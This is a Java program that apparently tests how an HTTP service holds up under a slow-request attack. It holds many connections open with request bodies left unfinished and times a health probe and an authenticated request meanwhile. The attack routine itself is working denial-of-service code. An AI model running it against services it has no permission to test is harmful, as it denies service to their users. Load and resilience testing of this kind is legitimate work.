import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Holds connections open that each send a request but for the last bytes of its body, opens them anew
 * where the service closes them, and prints how long a probe and an authenticated request take
 * meanwhile.
 *
 * <p>Arguments: address, key, connections, seconds, path of the attack, declared bytes, key of the
 * attack or {@code none}.
 */
final class SlowBodies {

  private static final int LEFT_OUT = 10;

  public static void main(String... arguments) throws Exception {
    var address = URI.create(arguments[0]);
    var key = arguments[1];
    var connections = Integer.parseInt(arguments[2]);
    var seconds = Integer.parseInt(arguments[3]);
    var attack = request(address, arguments[4], Integer.parseInt(arguments[5]), arguments[6]);
    var on = new AtomicBoolean(true);
    var answers = new ConcurrentHashMap<String, Integer>();
    var open = new AtomicInteger();
    try (var executor = Executors.newVirtualThreadPerTaskExecutor()) {
      for (var i = 0; i < connections; i++) {
        executor.submit(() -> attack(address, attack, on, answers, open));
      }
      Thread.sleep(2_000);
      var probe = executor.submit(() -> times(address, "/q/health/live", null, seconds));
      var owner = executor.submit(() -> times(address, "/account", key, seconds));
      var held = 0;
      for (var i = 0; i < seconds; i++) {
        Thread.sleep(1_000);
        held = Math.max(held, open.get());
      }
      print("probe", probe.get());
      print("authenticated GET", owner.get());
      System.out.printf("connections held at once: %d, answers: %s%n", held, new TreeMap<>(answers));
      on.set(false);
    }
  }

  private static byte[] request(URI address, String path, int bytes, String key) {
    var head =
        "POST " + path + " HTTP/1.1\r\nhost: " + address.getAuthority()
            + "\r\ncontent-type: application/json\r\ncontent-length: " + bytes + "\r\n"
            + (key.equals("none") ? "" : "x-api-key: " + key + "\r\n") + "\r\n";
    return (head + "{" + " ".repeat(bytes - 1 - LEFT_OUT)).getBytes(StandardCharsets.US_ASCII);
  }

  private static void attack(
      URI address, byte[] request, AtomicBoolean on, Map<String, Integer> answers, AtomicInteger open) {
    while (on.get()) {
      try (var socket = new Socket(address.getHost(), address.getPort())) {
        socket.setSoTimeout(1_000);
        open.incrementAndGet();
        answers.merge(answer(socket, request, on), 1, Integer::sum);
      } catch (IOException e) {
        answers.merge("closed", 1, Integer::sum);
      } finally {
        open.decrementAndGet();
      }
      pause(ThreadLocalRandom.current().nextInt(1_000, 5_000), on);
    }
  }

  private static String answer(Socket socket, byte[] request, AtomicBoolean on) throws IOException {
    try {
      socket.getOutputStream().write(request);
    } catch (IOException e) {
      // refused before it was sent: the answer may be there
    }
    while (on.get()) {
      try {
        var line = new String(socket.getInputStream().readNBytes(12), StandardCharsets.US_ASCII);
        return line.isEmpty() ? "closed" : line.substring(9);
      } catch (java.net.SocketTimeoutException e) {
        // still waited for
      }
    }
    return "held to the end";
  }

  private static void pause(int milliseconds, AtomicBoolean on) {
    for (var left = milliseconds; left > 0 && on.get(); left -= 100) {
      try {
        Thread.sleep(100);
      } catch (InterruptedException e) {
        return;
      }
    }
  }

  /** Milliseconds of each request; one that fails counts as ten seconds. */
  private static List<Double> times(URI address, String path, String key, int seconds) {
    var times = new ArrayList<Double>();
    var end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
    while (System.nanoTime() < end) {
      var before = System.nanoTime();
      try (var connection = new Connection(address)) {
        connection.exchange(connection.get(path, key));
        times.add((System.nanoTime() - before) / 1e6);
        Thread.sleep(20);
      } catch (IOException | InterruptedException e) {
        times.add(10_000.0);
      }
    }
    return times;
  }

  private static void print(String name, List<Double> times) {
    var sorted = times.stream().sorted().toList();
    System.out.printf(
        "%s: %d requests, median %.1f ms, 99th percentile %.1f ms, most %.1f ms%n",
        name,
        sorted.size(),
        sorted.get(sorted.size() / 2),
        sorted.get((int) (sorted.size() * 0.99)),
        sorted.getLast());
  }

  private SlowBodies() {}
}
